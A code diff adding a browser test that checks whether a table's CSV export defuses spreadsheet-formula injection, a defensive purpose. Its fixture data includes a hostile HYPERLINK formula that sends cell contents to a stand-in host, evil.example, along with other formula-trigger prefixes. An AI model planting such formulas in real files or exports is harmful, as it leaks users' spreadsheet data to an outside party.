@@ -179,6 +179,33 @@ describe('table', () => {
     await page.close();
   });
 
+  it('downloads CSV with spreadsheet formulas defused (CSV injection)', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(A1)', '-2+3', '@A1', '\tx', '-3.5', '+42', 'Ada'];
+    const page = await browser.context.newPage();
+    await page.route('**/data/orders/data.json', async (route) => {
+      const response = await route.fetch();
+      const data = await response.json();
+      data.north['columns.customer_name'].splice(0, hostile.length, ...hostile);
+      await route.fulfill({ response, json: data });
+    });
+    await page.goto(`${BASE}${SALES}`);
+    await settle(page);
+    const [download] = await Promise.all([page.waitForEvent('download'), page.click(`${T} [data-action="csv"]`)]);
+    const lines = readFileSync(await download.path(), 'utf8').trim().split(/\r\n/);
+    const names = lines.slice(1, hostile.length + 1).map((l) => l.slice(l.indexOf(',') + 1, l.lastIndexOf(',', l.lastIndexOf(',') - 1)));
+    assert.deepEqual(names, [
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
+      "'+SUM(A1)",
+      "'-2+3",
+      "'@A1",
+      "'\tx",
+      '-3.5',
+      '+42',
+      'Ada',
+    ]);
+    await page.close();
+  });
+
   it('switches cohort with its own selector and records it in the URL', async () => {
     const page = await sales();
     await page.click(`${T} .picker-button`);
